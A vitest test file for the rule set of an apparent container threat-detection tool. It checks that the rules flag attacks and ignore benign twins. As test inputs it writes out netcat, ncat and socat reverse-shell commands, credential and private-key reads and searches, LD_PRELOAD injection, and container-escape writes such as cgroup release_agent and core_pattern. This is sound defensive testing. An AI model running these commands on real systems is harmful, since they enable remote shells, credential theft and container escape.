// Size: one table of deeds and their harmless twins, a block for each shipped rule.
import { readFileSync } from 'node:fs';
import { HeaderFlag, Kind } from '@picket/sdk';
import { beforeEach, describe, expect, it } from 'vitest';
import type { Finding } from '../../types.ts';
import { bytesOf, Scenario } from '../testing/scenario.ts';
import { loadRules } from './load/load-rules.ts';
import { syscallNumber } from './names/syscalls.ts';

const path = new URL('../../../rules/picket.yaml', import.meta.url);
const load = loadRules([{ name: 'picket.yaml', text: readFileSync(path, 'utf8') }]);

const UPPER = { exe_flags: 1 };
const MEMFD = { exe_flags: 2 };
const TTY = { tty: 34816 };
const WRITE = 0o1101;
const BUSYBOX = '/bin/busybox';

let node: Scenario;
let pid: number;
/** pid 150 is the entrypoint (sh -c), 200 a shell below it, 210 an nginx, 220 a java, all from the image. */
beforeEach(() => {
  pid = 1000;
  node = new Scenario(load);
  node.container();
  node.exec(150, { path: '/bin/sh', args: ['sh', '-c', 'run'], ppid: 9, vpid: 1 });
  node.exec(200, { path: '/bin/dash', args: ['sh'], comm: 'sh', ppid: 150 });
  node.exec(210, { path: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'], ppid: 150 });
  node.exec(220, { path: '/opt/java/bin/java', args: ['java', '-jar', 'app.jar'], ppid: 150 });
});

const names = (findings: readonly Finding[]): string[] => findings.map((finding) => finding.rule);
/** A program as dash would run it: forked, then exec. */
const run = (
  path: string,
  args: readonly string[],
  ppid = 200,
  more: Record<string, number | string | string[]> = {},
) => {
  node.fork(++pid, ppid);
  return names(node.exec(pid, { path, args, ppid, more }));
};
const applet = (args: readonly string[], ppid = 200, more = {}) => {
  node.fork(++pid, ppid);
  const again = { filename: '/proc/self/exe', ...more };
  return names(node.exec(pid, { path: BUSYBOX, args, comm: 'exe', ppid, more: again }));
};
const write = (path: string, pid = 200) => names(node.open(pid, path, WRITE));
const read = (path: string, pid = 200) => names(node.open(pid, path));
/** Another program of the image, as pid 400. */
const as = (path: string, comm?: string, more = {}) => {
  node.exec(400, { path, args: [comm ?? path], ppid: 200, ...(comm ? { comm } : {}), more });
  return 400;
};

describe('the shipped rules', () => {
  it('load without a problem and say where, what and who', () => {
    expect(load.problems).toEqual([]);
    expect(load.rules.length).toBeGreaterThanOrEqual(25);
    for (const rule of load.rules) {
      expect(rule.mitre.length, rule.name).toBeGreaterThan(0);
      expect(
        rule.tags.some((tag) => tag.startsWith('mitre_')),
        rule.name,
      ).toBe(true);
      expect(rule.description.length, rule.name).toBeGreaterThan(40);
      for (const field of [
        'container.id',
        'container.name',
        'container.image',
        'user.uid',
        'proc.cmdline',
        'proc.pname',
        'proc.exepath',
      ])
        expect(rule.outputText, `${rule.name} tells %${field}`).toContain(`%${field}`);
    }
  });

  it('load together with every example of the handbook', () => {
    const handbook = readFileSync(new URL('../../../../docs/rules.md', import.meta.url), 'utf8');
    const examples = [...handbook.matchAll(/^```yaml\n(- [\s\S]*?)^```/gm)].map((match) => match[1] as string);
    const texts = [readFileSync(path, 'utf8'), ...examples];
    expect(examples.length).toBeGreaterThanOrEqual(3);
    expect(loadRules(texts.map((text, i) => ({ name: `${i}`, text }))).problems).toEqual([]);
  });

  it('stay silent on the host', () => {
    node.slot = 0;
    const header = { flags: HeaderFlag.host };
    expect(node.exec(500, { path: '/tmp/x', header, more: { ...UPPER, ...TTY } })).toEqual([]);
    expect(node.open(500, '/etc/shadow', 0, {}, header)).toEqual([]);
  });

  it('watch containers that are not known yet', () => {
    expect(names(node.exec(500, { path: '/tmp/x', header: { slot: 0, cgroup: 5 } }))).toEqual([
      'Program run from a scratch directory',
    ]);
  });
});

describe('Interactive shell in a container', () => {
  const rule = 'Interactive shell in a container';
  it('at the entrypoint, by exec, by another name, as a busybox applet', () => {
    expect(names(node.exec(500, { path: '/bin/bash', args: ['bash'], ppid: 9, more: TTY }))).toEqual([rule]);
    expect(run('/bin/bash', ['bash'], 200, TTY)).toEqual([rule]);
    expect(names(node.exec(501, { path: '/usr/bin/bash', comm: 'x', args: ['x'], more: TTY }))).toEqual([rule]);
    expect(applet(['sh'], 200, TTY)).toEqual([rule]);
    expect(
      names(node.exec(502, { path: BUSYBOX, comm: 'busybox', args: ['busybox', 'ash', '-i'], more: TTY })),
    ).toEqual([rule]);
  });
  it('not without a terminal, and not for other programs', () => {
    expect(names(node.exec(500, { path: '/bin/bash', args: ['sh', '-c', 'sleep 9'], ppid: 9 }))).toEqual([]);
    expect(run('/bin/ls', ['ls'], 200, TTY)).toEqual([]);
    expect(applet(['ls', '-l', 'sh'], 200, TTY)).toEqual([]);
  });
});

describe('Server process starts a shell', () => {
  it('web servers and data servers', () => {
    expect(run('/bin/dash', ['sh', '-c', 'id'], 210)).toContain('Server process starts a shell');
    node.exec(230, { path: '/usr/lib/postgresql/bin/postgres', ppid: 150 });
    expect(run('/bin/dash', ['sh', '-c', 'id'], 230)).toEqual(['Server process starts a shell']);
    node.exec(231, { path: '/usr/sbin/php-fpm8.2', ppid: 150 });
    expect(applet(['sh', '-c', 'id'], 231)).toContain('Server process starts a shell');
  });
  it('also by way of a worker that exits', () => {
    node.fork(211, 210, { comm: 'nginx' });
    node.fork(300, 211, { comm: 'nginx' });
    node.exit(211);
    expect(names(node.exec(300, { path: '/bin/dash', args: ['sh'], ppid: 1 }))).toContain(
      'Server process starts a shell',
    );
  });
  it('not a shell that starts the server, nor what is no shell', () => {
    expect(run('/bin/dash', ['sh', '-c', 'id'], 200)).toEqual([]);
    expect(run('/usr/bin/nginx-helper', ['nginx-helper'], 210)).toEqual([]);
    expect(run('/usr/sbin/nginx', ['nginx'], 200)).toEqual([]);
  });
});

describe('Web server runs an interpreter', () => {
  const rule = 'Web server runs an interpreter';
  it('a shell, or code on the command line', () => {
    expect(run('/bin/dash', ['sh', '-c', 'id'], 210)).toEqual(['Server process starts a shell', rule]);
    expect(run('/usr/bin/python3.11', ['python3', '-c', 'import os'], 210)).toEqual([rule]);
    expect(run('/usr/bin/perl', ['perl', '-e', 'print'], 210)).toEqual([rule]);
    node.exec(240, { path: '/bin/dash', comm: 'sh', ppid: 210 });
    expect(run('/usr/bin/php8.2', ['php', '-r', 'x'], 240)).toEqual([rule]);
  });
  it('not a script, and not below other programs', () => {
    expect(run('/usr/bin/python3.11', ['python3', '/srv/app.py'], 210)).toEqual([]);
    expect(run('/usr/bin/python3.11', ['python3', '-c', 'import os'], 200)).toEqual([]);
  });
});

describe('Java process starts a shell', () => {
  it('java, also through its spawn helper', () => {
    expect(run('/bin/bash', ['bash', '-c', 'id'], 220)).toEqual(['Java process starts a shell']);
    node.exec(221, { path: '/opt/java/lib/jspawnhelper', ppid: 220 });
    expect(run('/bin/bash', ['bash', '-c', 'id'], 221)).toEqual(['Java process starts a shell']);
  });
  it('not another program', () => {
    expect(run('/usr/bin/tar', ['tar', 'x'], 220)).toEqual([]);
  });
});

describe('Netcat runs a program on a connection', () => {
  const rule = 'Netcat runs a program on a connection';
  it.each([
    ['/usr/bin/nc.traditional', ['nc', '-e', '/bin/sh', '1.2.3.4', '4444']],
    ['/usr/bin/nc.traditional', ['nc', '1.2.3.4', '4444', '-e', '/bin/sh']],
    ['/usr/bin/nc.traditional', ['nc', '-lvpe', '/bin/sh']],
    ['/usr/bin/ncat', ['ncat', '--sh-exec', 'sh', '1.2.3.4']],
    ['/usr/bin/ncat', ['ncat', '-c', 'sh', '1.2.3.4']],
    ['/usr/bin/socat', ['socat', 'TCP:1.2.3.4:1', 'EXEC:sh']],
  ])('%s %j', (path, args) => {
    node.fork(++pid, 200);
    expect(names(node.exec(pid, { path, args, comm: args[0] as string, ppid: 200 }))).toEqual([rule]);
  });
  it('busybox, as an applet and by argument', () => {
    expect(applet(['nc', '127.0.0.1', '9', '-e', '/bin/sh'])).toEqual([rule]);
    expect(run(BUSYBOX, ['busybox', 'nc', '127.0.0.1', '9', '-e', '/bin/sh'])).toEqual([rule]);
  });
  it.each([
    ['/usr/bin/nc.openbsd', ['nc', '-zv', 'my-service', '80']],
    ['/usr/bin/nc.openbsd', ['nc', '-w', '3', 'e.example', '80']],
    ['/usr/bin/socat', ['socat', 'TCP:1.2.3.4:1', '-']],
    ['/usr/bin/ncat', ['ncat', '-l', '80']],
    ['/usr/bin/find', ['find', '/', '-e', 'x']],
  ])('not %s %j', (path, args) => {
    expect(run(path, args)).toEqual([]);
  });
});

describe('programs from odd places', () => {
  it('not in the image', () => {
    expect(run('/usr/local/bin/tool', ['tool'], 200, UPPER)).toEqual(['Program that is not in the image']);
    expect(run('/usr/local/bin/tool', ['tool'])).toEqual([]);
  });
  it('from memory', () => {
    expect(run('/memfd:x', ['x'], 200, MEMFD)).toEqual(['Program run from memory']);
  });
  it('through a descriptor', () => {
    const rule = 'Program run through a descriptor';
    expect(run('/usr/bin/x', ['x'], 200, { filename: '/proc/self/fd/5' })).toEqual([rule]);
    expect(run('/usr/bin/x', ['x'], 200, { filename: '/dev/fd/5' })).toEqual([rule]);
    expect(run('/usr/bin/x', ['x'], 200, { filename: '/proc/self/exe' })).toEqual([]);
  });
  it('from a scratch directory, scripts too', () => {
    const rule = 'Program run from a scratch directory';
    expect(run('/tmp/x', ['/tmp/x'])).toEqual([rule]);
    expect(run('/dev/shm/.x', ['x'])).toEqual([rule]);
    expect(run('/var/tmp/a/b', ['b'])).toEqual([rule]);
    expect(run('/bin/dash', ['/tmp/x.sh'], 200, { filename: '/tmp/x.sh' })).toEqual([rule]);
    expect(run('/bin/dash', ['./x.sh'], 200, { filename: './x.sh', cwd: '/tmp/work' })).toEqual([rule]);
    expect(run('/bin/dash', ['sh', '/tmp/x.sh'], 200, { cwd: '/tmp' })).toEqual([]);
    expect(run('/usr/bin/tmpwatch', ['tmpwatch', '/tmp'])).toEqual([]);
    expect(run('/srv/tmp/x', ['x'])).toEqual([]);
  });
});

describe('the first steps of the runtime', () => {
  const sealed = {
    path: '/memfd:runc_cloned:/proc/self/exe',
    comm: '6',
    args: ['runc', 'init'],
    more: { ...MEMFD, filename: '/dev/fd/6' },
  };

  /** A process of the host that just began, as the first records of a container show it. */
  const justForked = (pid: number) => ({ start: node.time - 1_000_000, tgid: pid });

  it('are no finding', () => {
    expect(names(node.exec(600, { ...sealed, ppid: 77, vpid: 600, header: justForked(600) }))).toEqual([]);
    expect(
      names(
        node.exec(601, {
          path: '/usr/sbin/runc',
          args: ['runc', 'init'],
          ppid: 77,
          vpid: 601,
          more: UPPER,
          header: justForked(601),
        }),
      ),
    ).toEqual([]);
    node.fork(602, 77, { parent_tid: 600, comm: 'runc:[1:CHILD]', vpid: 1 });
    const before = new Scenario(load);
    before.container();
    before.fork(602, 77, { parent_tid: 600, comm: 'runc:[1:CHILD]', vpid: 1 });
    expect(names(before.open(602, '/usr/lib/libdriver.so.1', WRITE))).toEqual([]);
    expect(names(before.exec(602, { path: '/bin/sh', args: ['sh', '-c', 'sleep 5'], ppid: 77, vpid: 1 }))).toEqual([]);
    expect(names(before.open(602, '/usr/lib/libdriver.so.1', WRITE))).toEqual(['Program or library directory written']);
  });

  it('can not be played by a process of the container', () => {
    const rule = 'Program run from memory';
    node.fork(610, 200);
    expect(names(node.exec(610, { ...sealed, ppid: 200, vpid: 44 })), 'from a shell').toEqual([rule]);
    node.fork(611, 200);
    expect(names(node.exec(611, { ...sealed, ppid: 200, vpid: 611 })), 'with the pids of the host').toEqual([rule]);
    node.fork(612, 9, { parent_tid: 200 });
    expect(names(node.exec(612, { ...sealed, ppid: 9, vpid: 612 })), 'given the parent of its parent').toEqual([rule]);
    node.fork(613, 200);
    node.fork(614, 613);
    node.exit(613);
    expect(names(node.exec(614, { ...sealed, ppid: 1, vpid: 614 })), 'orphaned').toEqual([rule]);
    expect(
      names(node.exec(615, { ...sealed, ppid: 77, vpid: 44, header: justForked(615) })),
      'in the pid namespace',
    ).toEqual([rule]);
    expect(
      names(node.exec(617, { ...sealed, ppid: 77, vpid: 617, header: { time: node.time + 6e9 } })),
      'long after it began',
    ).toEqual([rule]);
    node.fork(616, 200, { comm: 'runc:[2:INIT]', vpid: 1 });
    expect(names(node.open(616, '/usr/bin/ls', WRITE)), 'by name').toEqual(['Program or library directory written']);
  });
});

describe('Library preloaded into a program', () => {
  const rule = 'Library preloaded into a program';
  it.each(['/tmp/x.so', './x.so', '/usr/lib/a.so:/tmp/x.so', '/usr/lib/../../tmp/x.so', '/usr/lib/a.so /dev/shm/x.so'])(
    '%s',
    (library) => {
      expect(run('/bin/ls', ['ls'], 200, { env: [`LD_PRELOAD=${library}`] })).toEqual([rule]);
    },
  );
  it('also as an auditor', () => {
    expect(run('/bin/ls', ['ls'], 200, { env: ['LD_AUDIT=/usr/lib/a.so'] })).toEqual([rule]);
  });
  it('not a library of the image', () => {
    expect(run('/bin/ls', ['ls'], 200, { env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] })).toEqual([]);
    expect(run('/bin/ls', ['ls'], 200, { env: ['LD_PRELOAD=', 'LANG=C'] })).toEqual([]);
  });
});

describe('Package manager run in a container', () => {
  const rule = 'Package manager run in a container';
  it('once, not again for its children', () => {
    expect(run('/usr/bin/apt-get', ['apt-get', 'install', 'nmap'])).toEqual([rule]);
    node.exec(310, { path: '/usr/bin/apt-get', ppid: 200 });
    expect(run('/usr/bin/dpkg', ['dpkg', '-i', 'x.deb'], 310)).toEqual([]);
    expect(run('/sbin/apk', ['apk', 'add', 'nmap'])).toEqual([rule]);
    expect(run('/usr/bin/dpkg', ['dpkg', '-i', 'x.deb'])).toEqual([rule]);
  });
  it('not a query', () => {
    expect(run('/usr/bin/dpkg', ['dpkg', '-l'])).toEqual([]);
    expect(run('/usr/bin/rpm', ['rpm', '-qa'])).toEqual([]);
    expect(run('/sbin/apk', ['apk', 'info'])).toEqual([]);
    expect(run('/usr/bin/dpkg-query', ['dpkg-query', '-W'])).toEqual([]);
  });
});

describe('credentials', () => {
  it('account files, read or refused', () => {
    const rule = ['Account file read by an unexpected program'];
    const cat = as('/bin/cat');
    expect(read('/etc/shadow', cat)).toEqual(rule);
    expect(read('/etc/sudoers.d/admin', cat)).toEqual(rule);
    expect(read('/etc/pam.d/login', cat)).toEqual(rule);
    expect(names(node.denied(cat, '/etc/shadow'))).toEqual(rule);
    expect(read('/etc/shadow', as('/tmp/passwd')), 'a name is not enough').toEqual(rule);
    expect(read('/etc/shadow', as('/usr/bin/passwd', undefined, UPPER)), 'nor a path that was overwritten').toEqual(
      rule,
    );
    expect(names(node.open(4711, '/etc/shadow')), 'by a process that is not known').toEqual(rule);
  });
  it('not by programs for accounts, and not the public ones', () => {
    expect(read('/etc/passwd', as('/bin/cat'))).toEqual([]);
    expect(read('/etc/group')).toEqual([]);
    expect(names(node.denied(200, '/etc/shadow', 0, 2))).toEqual([]);
    expect(read('/etc/shadow', as('/usr/bin/passwd'))).toEqual([]);
    expect(read('/etc/shadow', as('/usr/bin/su'))).toEqual([]);
    node.exec(401, { path: BUSYBOX, args: ['su', '-'], ppid: 200 });
    expect(read('/etc/shadow', 401)).toEqual([]);
  });

  it('environments of other processes', () => {
    const rule = ['Environment of another process read'];
    expect(read('/proc/1/environ')).toEqual(rule);
    expect(read('/proc/1000/environ')).toEqual(rule);
    expect(read('/proc/100/task/100/environ')).toEqual([]);
    expect(read('/proc/100/environ')).toEqual([]);
    expect(read('/proc/1/status')).toEqual([]);
  });

  it('private keys and cloud credentials', () => {
    const rule = ['Private keys or cloud credentials read'];
    expect(read('/home/bob/.ssh/id_ed25519', as('/bin/cat'))).toEqual(rule);
    expect(read('/root/.ssh/id_rsa', as('/srv/app'))).toEqual(rule);
    expect(read('/root/.aws/credentials', as('/bin/cat'))).toEqual(rule);
    expect(read('/root/.git-credentials', as('/usr/bin/curl'))).toEqual(rule);
    expect(read('/root/.ssh/id_rsa', as('/usr/bin/ssh'))).toEqual([]);
    expect(read('/home/bob/.ssh/id_rsa.pub', as('/bin/cat'))).toEqual([]);
    expect(read('/root/.aws/credentials', as('/usr/bin/python3.11', 'aws'))).toEqual([]);
    expect(read('/srv/config.json', as('/bin/cat'))).toEqual([]);
  });

  it('searches for them', () => {
    const rule = ['Search for private keys or credentials'];
    expect(run('/usr/bin/find', ['find', '/', '-name', 'id_rsa*'])).toEqual(rule);
    expect(run('/bin/grep', ['grep', '-r', 'BEGIN RSA PRIVATE KEY', '/'])).toEqual(rule);
    expect(applet(['find', '/home', '-path', '*/.aws/credentials'])).toEqual(rule);
    expect(run('/bin/dash', ['sh', '-c', 'find / -name id_rsa'])).toEqual(rule);
    expect(run('/usr/bin/find', ['find', '/srv', '-name', '*.log'])).toEqual([]);
    expect(run('/usr/bin/ssh-keygen', ['ssh-keygen', '-f', 'id_rsa'])).toEqual([]);
  });

  it('the metadata service', () => {
    const rule = ['Cloud metadata service contacted'];
    expect(names(node.connect(200, '169.254.169.254', 80))).toEqual(rule);
    expect(names(node.connect(200, '169.254.169.254', 80, { result: -101 }))).toEqual(rule);
    expect(names(node.connect(200, 'fd00:ec2::254', 80))).toEqual(rule);
    expect(names(node.connect(200, '10.0.0.1', 80))).toEqual([]);
    expect(names(node.connect(200, '169.254.169.123', 123))).toEqual([]);
  });
});

it('SSH to a non-standard port', () => {
  const ssh = as('/usr/bin/ssh');
  expect(names(node.connect(ssh, '10.9.9.9', 2222))).toEqual(['SSH to a non-standard port']);
  expect(names(node.connect(ssh, '10.9.9.9', 22))).toEqual([]);
  expect(names(node.connect(ssh, '10.9.9.9', 53, {}, { protocol: 17 }))).toEqual([]);
  expect(names(node.connect(200, '10.9.9.9', 2222))).toEqual([]);
});

describe('ways out of the container', () => {
  it.each([
    ['/sys/fs/cgroup/rdma/x/release_agent', 'Cgroup release agent written'],
    ['/sys/fs/cgroup/rdma/x/notify_on_release', 'Cgroup notify_on_release written'],
    ['/proc/sys/kernel/core_pattern', 'Kernel helper program changed'],
    ['/sys/kernel/uevent_helper', 'Kernel helper program changed'],
    ['/proc/sys/fs/binfmt_misc/register', 'Kernel helper program changed'],
  ])('%s', (path, rule) => {
    expect(write(path)).toEqual([rule]);
    expect(names(node.denied(200, path, 1, 30)), 'refused by a read-only file system').toEqual([rule]);
    expect(read(path)).toEqual([]);
    expect(names(node.denied(200, path, 0))).toEqual([]);
  });

  it('the socket of the runtime', () => {
    const rule = ['Container runtime socket used in a container'];
    const socket = (at: string, result = 0) =>
      names(node.send(Kind.NetUnix, { tgid: 200, syscall: 42, result }, { path: at }));
    expect(socket('/var/run/docker.sock')).toEqual(rule);
    expect(socket('/run/containerd/containerd.sock', -13)).toEqual(rule);
    expect(names(node.denied(200, '/run/docker.sock', 2, 6))).toEqual(rule);
    expect(socket('/run/mysqld/mysqld.sock')).toEqual([]);
    expect(names(node.send(Kind.NetUnix, { tgid: 200, syscall: 42 }, { path: '/docker.sock', abstract: 1 }))).toEqual(
      [],
    );
    expect(read('/etc/docker.sock.conf')).toEqual([]);
  });

  it('files of the host', () => {
    const rule = ['Host files reached from a container'];
    expect(read('/var/lib/kubelet/pods/x/token')).toEqual(rule);
    expect(read('/host/root/.bashrc')).toEqual(rule);
    expect(names(node.denied(200, '/proc/1/root/etc/hostname'))).toEqual(rule);
    expect(read('/host/proc/stat')).toEqual([]);
    expect(read('/host/etc/os-release')).toEqual([]);
    expect(read('/proc/1/status')).toEqual([]);
    expect(read('/hosting/etc/shadow.txt')).toEqual([]);
  });
});

describe('files that are written', () => {
  it.each([
    ['/etc/ld.so.preload', 'Preload file written'],
    ['/etc/cron.d/job', 'Scheduled job written'],
    ['/var/spool/cron/crontabs/root', 'Scheduled job written'],
    ['/etc/crontab', 'Scheduled job written'],
    ['/root/.ssh/authorized_keys', 'Account rights written'],
    ['/etc/sudoers.d/me', 'Account rights written'],
    ['/etc/systemd/system/x.service', 'Start-up file written'],
    ['/etc/profile.d/x.sh', 'Start-up file written'],
    ['/home/bob/.bashrc', 'Start-up file written'],
    ['/etc/init.d/x', 'Start-up file written'],
    ['/usr/bin/ls', 'Program or library directory written'],
    ['/lib/x86_64-linux-gnu/libc.so.6', 'Program or library directory written'],
    ['/var/lib/dpkg/status', 'Program or library directory written'],
  ])('%s', (path, rule) => {
    expect(write(path)).toEqual([rule]);
    expect(read(path), 'reading it').not.toContain(rule);
  });

  it('not by the package manager, which is told by its file', () => {
    const dpkg = as('/usr/bin/dpkg');
    expect(write('/usr/bin/nmap', dpkg)).toEqual([]);
    expect(write('/etc/cron.d/job', dpkg)).toEqual([]);
    expect(write('/usr/bin/nmap', as('/tmp/dpkg'))).toEqual(['Program or library directory written']);
  });

  it.each([
    '/var/log/app.log',
    '/tmp/out.txt',
    '/dev/null',
    '/srv/data/x',
    '/var/lib/postgresql/data/x',
    '/usr/local/lib/python3.12/__pycache__/os.cpython-312.pyc.1402',
    '/etc/hosts',
    '/run/nginx.pid',
    '/home/bob/notes',
  ])('not %s', (path) => {
    expect(write(path)).toEqual([]);
  });
});

describe('ordinary life of a container', () => {
  it('makes no alert', () => {
    const found: Finding[] = [];
    const push = (findings: readonly Finding[]) => found.push(...findings);
    push(node.exec(700, { path: '/bin/sh', args: ['sh', '-c', 'sleep 100'], ppid: 77, vpid: 1 }));
    for (const command of [
      ['ls', '-la'],
      ['cat', '/etc/passwd'],
      ['wget', '-qO-', 'http://shop/'],
      ['id'],
      ['ps', 'aux'],
      ['date'],
    ]) {
      push(node.fork(701, 700));
      push(
        node.exec(701, { path: BUSYBOX, comm: 'exe', args: command, ppid: 700, more: { filename: '/proc/self/exe' } }),
      );
      for (const path of [
        '/etc/ld.so.cache',
        '/usr/lib/libc.so.6',
        '/etc/passwd',
        '/etc/group',
        '/proc/self/stat',
        '/proc/1/stat',
      ])
        push(node.open(701, path));
      push(node.connect(701, '10.96.0.10', 53, {}, { protocol: 17 }));
      push(node.connect(701, '10.0.0.7', 80));
      push(node.exit(701));
    }
    push(node.open(700, '/var/log/app.log', 0o2101));
    push(node.open(700, '/dev/tty', 2, { file_mode: 0o20666 }));
    push(node.denied(700, '/var/lib/app/missing', 0, 2));
    expect(names(found)).toEqual([]);
  });
});

/** A notable system call of the shell, or of `tgid`. */
const call = (
  name: string,
  fields: Record<string, number | string | Uint8Array> = {},
  header: Record<string, number> = {},
) =>
  names(
    node.send(
      Kind.SyscallNotable,
      { tgid: 200, syscall: syscallNumber(name) ?? 0, ...header },
      { count: 1, ...fields },
    ),
  );
const refused = { result: -1 };
const SYS_ADMIN = { cap_permitted: 2 ** 21 };

describe('Standard stream redirected to a network connection', () => {
  const rule = 'Standard stream redirected to a network connection';
  const ends = (remote: string, family: number) => ({
    ...{ local_ip: bytesOf(remote.includes(':') ? 'fd00::9' : '10.0.0.9'), remote_ip: bytesOf(remote) },
    ...{ local_port: 40_000, remote_port: 4444, family, protocol: 6 },
  });
  it.each(['dup', 'dup2', 'dup3', 'fcntl'])('by %s', (name) => {
    expect(call(name, { ...ends('1.2.3.4', 2), arg0: 5 }, { result: 0 })).toEqual([rule]);
    expect(call(name, { ...ends('fd00::1', 10), arg0: 5 }, { result: 2 })).toEqual([rule]);
  });
  it('not a unix socket, and not what a server of connections does', () => {
    expect(call('dup2', { family: 1 }, { result: 0 })).toEqual([]);
    expect(call('dup2', ends('1.2.3.4', 2), { tgid: as('/usr/sbin/xinetd', 'xinetd') })).toEqual([]);
  });
});

describe('mounts and disks', () => {
  it('mounts, done and refused, by either way', () => {
    expect(call('mount', { path: 'proc', target: '/mnt', text: 'proc' })).toEqual(['Mount in a container']);
    expect(call('mount', { path: 'tmpfs', target: '/mnt', text: 'tmpfs' }, refused)).toEqual(['Mount in a container']);
    expect(call('move_mount', { target: '/mnt' })).toEqual(['Mount in a container']);
    expect(run('/sbin/debugfs', ['debugfs', '/dev/x'], 200, SYS_ADMIN)).toEqual(['Mount in a container']);
  });
  it('disks, opened or mounted', () => {
    const disk = 'Host block device used in a container';
    expect(read('/dev/sda1')).toEqual([disk]);
    expect(read('/dev/nvme0n1p1')).toEqual([disk]);
    expect(names(node.denied(200, '/dev/vda'))).toEqual([disk]);
    expect(call('mount', { path: '/dev/sda1', target: '/mnt', text: 'ext4' }).sort()).toEqual([
      disk,
      'Mount in a container',
    ]);
  });
  it('not an unmount, not a disk that is not there, not other devices, not what the runtime does', () => {
    expect(call('umount2', { target: '/mnt' })).toEqual([]);
    expect(names(node.denied(200, '/dev/sda', 0, 2))).toEqual([]);
    expect(read('/dev/null')).toEqual([]);
    expect(read('/dev/shm/sda')).toEqual([]);
    expect(run('/sbin/debugfs', ['debugfs', '/dev/x'])).toEqual([]);
    node.fork(300, 9, { comm: 'runc:[2:INIT]', vpid: 1 });
    expect(call('mount', { path: 'proc', target: '/proc', text: 'proc' }, { tgid: 300 })).toEqual([]);
    // the same, found by a look at what is running: then its program is known, the sealed copy of the runtime
    node.exec(310, { path: '/', args: ['runc', 'init'], comm: 'runc:[1:CHILD]', ppid: 309, vpid: 310 });
    expect(call('mount', { path: 'proc', target: '/proc', text: 'proc' }, { tgid: 310 })).toEqual([]);
    node.exec(311, { path: '/usr/bin/evil', args: ['runc', 'init'], comm: 'runc:[1:CHILD]', ppid: 200 });
    expect(call('mount', { path: 'proc', target: '/proc' }, { tgid: 311 })).toEqual(['Mount in a container']);
    node.fork(301, 9, { comm: 'crun' });
    expect(call('mount', { path: 'proc', target: '/proc', comm: 'crun' }, { tgid: 301 })).toEqual([]);
    node.fork(302, 200, { comm: 'crun' });
    expect(call('mount', { path: 'proc', target: '/proc', comm: 'crun' }, { tgid: 302 })).toEqual([
      'Mount in a container',
    ]);
  });
});

describe('namespaces', () => {
  const NEWNS = 0x20000;
  const NEWUSER = 0x10000000;
  it('entered, and made without the right to', () => {
    expect(call('setns', { text: 'mnt' })).toEqual(['Namespace of another process entered']);
    expect(call('setns', { text: 'pid' }, refused)).toEqual(['Namespace of another process entered']);
    expect(call('unshare', { arg0: NEWUSER })).toEqual(['Namespace made without the right to']);
    expect(call('unshare', { arg0: NEWNS }, refused)).toEqual(['Namespace made without the right to']);
  });
  it('not by whoever may, not another kind, not the runtime on its way in', () => {
    expect(call('unshare', { arg0: NEWNS }, { tgid: as('/usr/bin/unshare', 'unshare', SYS_ADMIN) })).toEqual([]);
    expect(call('unshare', { arg0: 0x400 })).toEqual([]);
    node.fork(300, 9, { comm: 'runc:[1:CHILD]', vpid: 300 });
    expect(call('setns', { text: 'mnt' }, { tgid: 300 })).toEqual([]);
    expect(call('unshare', { arg0: NEWNS }, { tgid: 300 })).toEqual([]);
  });
});

describe('the kernel', () => {
  it('modules, loaded, refused and removed', () => {
    const rule = 'Kernel module loaded from a container';
    expect(call('finit_module', { path: '/tmp/rootkit.ko' })).toEqual([rule]);
    expect(call('init_module', {}, refused)).toEqual([rule]);
    expect(call('delete_module', { text: 'lsm' }, refused)).toEqual([rule]);
  });
  it('eBPF programs, not other commands', () => {
    expect(call('bpf', { arg0: 5 }, refused)).toEqual(['eBPF program loaded from a container']);
    expect(call('bpf', { arg0: 1 })).toEqual([]);
  });
  it('io_uring', () => {
    expect(call('io_uring_setup', { arg0: 8 }, { result: 3 })).toEqual(['io_uring set up in a container']);
    expect(call('perf_event_open', {}, refused)).toEqual([]);
  });
  it('userfaultfd by others than root', () => {
    expect(call('userfaultfd', {}, { uid: 33, result: 3 })).toEqual(['userfaultfd used without rights']);
    expect(call('userfaultfd', {}, { uid: 0, result: 3 })).toEqual([]);
  });
});

describe('other processes', () => {
  it('traced or changed', () => {
    for (const request of [16, 0x4206, 4, 5, 13, 0x4205])
      expect(call('ptrace', { arg0: request, target_pid: 210 })).toEqual(['Process traced']);
    expect(call('ptrace', { arg0: 16 }, refused)).toEqual(['Process traced']);
    expect(call('process_vm_writev', { arg0: 7 }, refused)).toEqual(['Memory of another process written']);
  });
  it('not let go, nor read from', () => {
    expect(call('ptrace', { arg0: 17 })).toEqual([]);
    expect(call('process_vm_readv', { arg0: 7 })).toEqual([]);
  });
  it('a process that lets itself be traced, not below a debugger', () => {
    expect(call('ptrace', { arg0: 0 })).toEqual(['Process keeps debuggers away']);
    node.exec(410, { path: '/usr/bin/strace', args: ['strace', 'ls'], ppid: 200 });
    node.fork(411, 410, { comm: 'strace' });
    expect(call('ptrace', { arg0: 0 }, { tgid: 411 })).toEqual([]);
  });
});

describe('rights', () => {
  const rule = 'Root asked for without rights';
  it('root asked for, got and refused', () => {
    expect(call('setuid', { arg0: 0, old_id: 33, new_id: 33 }, refused)).toEqual([rule]);
    expect(call('setresuid', { arg0: 0, old_id: 33, new_id: 0 })).toEqual([rule]);
    expect(call('setreuid', { old_id: 33, new_id: 0 })).toEqual([rule]);
  });
  it('not given up, not kept, not by programs for it, not where it is unknown', () => {
    expect(call('setuid', { arg0: 33, old_id: 0, new_id: 33 })).toEqual([]);
    expect(call('setuid', { arg0: 33, old_id: 33, new_id: 33 })).toEqual([]);
    expect(call('setresuid', { old_id: 33, new_id: 0 }, { tgid: as('/usr/bin/sudo', 'sudo') })).toEqual([]);
    expect(call('setuid', { arg0: 0, old_id: 4294967295, new_id: 0 })).toEqual([]);
    expect(call('setgid', { arg0: 0, old_id: 33, new_id: 0 })).toEqual([]);
  });
  it('programs with rights that are started without a name', () => {
    expect(run('/usr/bin/pkexec', [''])).toEqual(['Program with rights started without a name']);
    expect(run('/usr/bin/pkexec', ['pkexec', 'id'])).toEqual([]);
    expect(run('/usr/bin/env', [''])).toEqual([]);
  });
});

describe('Process left the cgroup of its container', () => {
  const move = (kept: number) =>
    names(node.send(Kind.ProcessMoved, { tgid: 200 }, { from_cgroup: 900, path: '/other', kept, mover_pid: 200 }));
  it('when a process of the container did it, not when the runtime did', () => {
    expect(move(1)).toEqual(['Process left the cgroup of its container']);
    expect(move(0)).toEqual([]);
  });
});
